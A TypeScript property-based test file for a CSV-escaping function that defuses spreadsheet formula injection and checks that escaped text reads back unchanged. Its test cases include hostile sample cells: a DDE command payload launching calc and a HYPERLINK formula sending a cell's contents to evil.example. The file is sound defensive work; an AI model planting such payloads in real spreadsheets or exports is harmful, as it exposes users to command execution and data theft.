// Text in CSV: a spreadsheet runs none of it, a parser gets all of it back.
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvText, noFormula } from '../../../src/core/base/csv-text';

test.each([
  ['plain', 'plain'],
  ['-1e-5', '-1e-5'],
  ['+0.5', '+0.5'],
  ['-Infinity', '-Infinity'],
  ['=1+1', "'=1+1"],
  [`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`],
  ['=HYPERLINK("https://evil.example/?"&A1)', `"'=HYPERLINK(""https://evil.example/?""&A1)"`],
  ['-2+3+cmd|x', "'-2+3+cmd|x"],
  ['@SUM(1)', "'@SUM(1)"],
  ['＝1+1', "'＝1+1"],
  ['\t=1', "'\t=1"],
  ["'=1", "''=1"],
  ['a\nb', '"a\nb"'],
  ['a,"b"', '"a,""b"""'],
])('%j', (text, written) => expect(csvText(text)).toBe(written));

/** As RFC 4180 reads one field, and then as the rule of 0341 does. */
function readBack(field: string): string {
  const text = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
  return /^'+[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/.test(text) ? text.slice(1) : text;
}

describe('any text', () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.array(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', '＝', '1', 'x', '"', ',')).map((parts) => parts.join('')),
  );

  test('comes back as it was', () => {
    fc.assert(
      fc.property(text, (one) => {
        expect(readBack(csvText(one))).toBe(one);
      }),
    );
  });

  test('begins like no formula, unless it is a number', () =>
    fc.assert(
      fc.property(text, (one) => {
        const safe = noFormula(one);
        expect(/^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/.test(safe) && Number.isNaN(Number(safe))).toBe(false);
      }),
    ));

  test('is one field of its line', () =>
    fc.assert(
      fc.property(text, (one) => {
        const field = csvText(one);
        expect(/^"(?:[^"]|"")*"$|^[^",\r\n]*$/.test(field)).toBe(true);
      }),
    ));
});
